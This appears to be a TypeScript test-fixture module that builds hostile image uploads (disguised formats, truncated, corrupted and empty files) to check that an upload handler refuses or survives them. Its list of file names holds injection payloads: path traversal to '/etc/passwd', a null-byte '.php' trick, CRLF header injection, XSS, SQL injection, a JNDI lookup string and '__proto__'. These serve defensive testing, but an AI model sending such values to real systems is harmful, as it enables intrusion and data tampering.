import fc from "fast-check";
import type { Random } from "#kit/random.ts";
import { mutation } from "#kit/hostile.ts";
import { hostileFile, picture, stowaway, types, type HostileFile } from "./hostile-file.ts";

const readable = ["jpeg", "png", "webp"] as const;

/** Files whose name, type or first bytes contradict the rest. */
export async function disguisedFiles(random: Random): Promise<HostileFile[]> {
  const real = await encodings(random);
  return [
    ...Object.entries(real).flatMap(([format, bytes]) =>
      Object.keys(types)
        .filter((claimed) => claimed !== format)
        .map((claimed) => ({
          ...hostileFile(`${format} called ${claimed}`, bytes, claimed, verdictOn(format)),
        })),
    ),
    ...["text/html", "image/svg+xml", "application/octet-stream", "", "x/y; a=b", "text/csv"].map(
      (type) => ({ ...hostileFile(`JPEG of type ${type}`, real.jpeg!, "jpeg", "taken"), type }),
    ),
    ...["heic", "heix", "avif", "mif1", "jxl ", "M4V ", "crx "].map((brand) =>
      hostileFile(`${brand} with a JPEG in it`, boxed(brand, real.jpeg!), "image/heic", "refused"),
    ),
    ...["0000000c6a502020", "ff0a", "38425053", "c5d0d3c6", "00000100", "49492a00", "4d4d002b"].map(
      (signature) =>
        hostileFile(
          `${signature} and noise`,
          noise(random, Buffer.from(signature, "hex")),
          "image/x-other",
          "refused",
        ),
    ),
  ];
}

/** Cut off at each tenth of their length; decoders often forgive a missing end, never a missing half. */
export async function truncatedFiles(random: Random): Promise<HostileFile[]> {
  const real = await encodings(random, { width: 48, height: 48 });
  return readable.flatMap((format) =>
    [1, 2, 3, 4, 5, 6, 7, 8, 9].map((tenths) => {
      const bytes = real[format]!;
      const rest = bytes.subarray(0, Math.floor((bytes.length * tenths) / 10));
      return hostileFile(
        `${format} cut off at ${tenths}/10`,
        rest,
        format,
        tenths < 8 ? "refused" : "either",
      );
    }),
  );
}

/** Pictures with some bytes changed at random positions. */
export async function corruptedFiles(random: Random, count: number): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  const sample = { seed: random.below(2 ** 31), numRuns: count };
  for (const mutate of fc.sample(mutation(6), sample)) {
    const format = random.pick(readable);
    const real = await picture(random).toFormat(format).toBuffer();
    const text = mutate(real.toString("latin1"));
    files.push(
      hostileFile(`${format} with bytes changed`, Buffer.from(text, "latin1"), format, "either"),
    );
  }
  return files;
}

/** Equivalent to no file. */
export function emptyFiles(random: Random): HostileFile[] {
  const signatures = [
    "",
    "ff",
    "ffd8ff",
    "ffd8ffe0",
    "89504e470d0a1a0a",
    "52494646",
    "47494638",
    "00",
    "0d0a",
  ];
  return [
    ...signatures.map((signature) =>
      hostileFile(`nothing but "${signature}"`, Buffer.from(signature, "hex"), "jpeg", "refused"),
    ),
    ...[100, 5000, 200_000].map((size) =>
      hostileFile(`${size} bytes of noise`, noise(random, Buffer.alloc(0), size), "png", "refused"),
    ),
    hostileFile("spaces", Buffer.alloc(3000, " "), "jpeg", "refused"),
    hostileFile(
      "a private key",
      Buffer.from(`-----BEGIN PRIVATE KEY-----\n${stowaway}\n`),
      "png",
      "refused",
    ),
    hostileFile("text", Buffer.from(`only text with ${stowaway}`), "webp", "refused"),
  ];
}

const names = [
  "../../../../../../tmp/x.jpeg",
  "..\\..\\x.jpeg",
  "/etc/passwd",
  "C:\\boot.ini",
  "file:///x.jpeg",
  "\0.jpeg",
  "x.php\0.jpeg",
  "a\tb.jpeg",
  "a%0D%0AContent-Type: text/html%0D%0A.jpeg",
  "%2e%2e%2fx.jpeg",
  "\xe2\x80\xaegepj.exe",
  "\xff\xfe.jpeg",
  "\xed\xa0\x80.jpeg",
  "x".repeat(4096),
  "\xf0\x9f\x98\x80".repeat(300),
  ".htaccess",
  ".env",
  "con",
  "x.jpeg.exe",
  "<script>alert(1)</script>.jpeg",
  "'; drop table orders; --.jpeg",
  "%22; name=%22slug%22; x=%22",
  "-rf",
  "${jndi:ldap://fz.invalid}",
  " ",
  ".",
  "..",
  "x.jpeg/",
  "__proto__",
];

/** A valid picture under a name with a path, with control characters, or without an end. */
export async function badlyNamedFiles(random: Random): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  for (const name of names) {
    const bytes = await picture(random).jpeg().toBuffer();
    files.push({
      what: `JPEG called ${name.slice(0, 40)}`,
      bytes,
      name,
      type: "image/jpeg",
      expected: "taken",
    });
  }
  for (const name of ["a\r\nContent-Type: text/html\r\n\r\n", 'a"; name="slug', "a\nb.jpeg", ""]) {
    const bytes = await picture(random).jpeg().toBuffer();
    files.push({
      what: "JPEG whose name breaks the form",
      mayBeIgnored: true,
      bytes,
      name,
      type: "image/jpeg",
      expected: "either",
    });
  }
  return files;
}

async function encodings(random: Random, size?: { width: number; height: number }) {
  const drawn = picture(random, size);
  const formats = ["jpeg", "png", "webp", "gif", "tiff", "avif"] as const;
  const found: Record<string, Buffer> = {};
  for (const format of formats) found[format] = await drawn.clone().toFormat(format).toBuffer();
  return found;
}

function verdictOn(format: string) {
  return (readable as readonly string[]).includes(format) ? "taken" : "refused";
}

/** A file of the HEIC, AVIF and MP4 family, by its first box. */
function boxed(brand: string, inner: Buffer): Buffer {
  const head = Buffer.from(`\0\0\0\x18ftyp${brand}\0\0\0\0mif1${brand}`, "latin1");
  return Buffer.concat([head, inner]);
}

function noise(random: Random, signature: Buffer, size = 600): Buffer {
  const bytes = Buffer.from(Array.from({ length: size }, () => random.below(256)));
  // Never a valid picture by chance.
  bytes[0] = 0;
  return Buffer.concat([signature, bytes]);
}
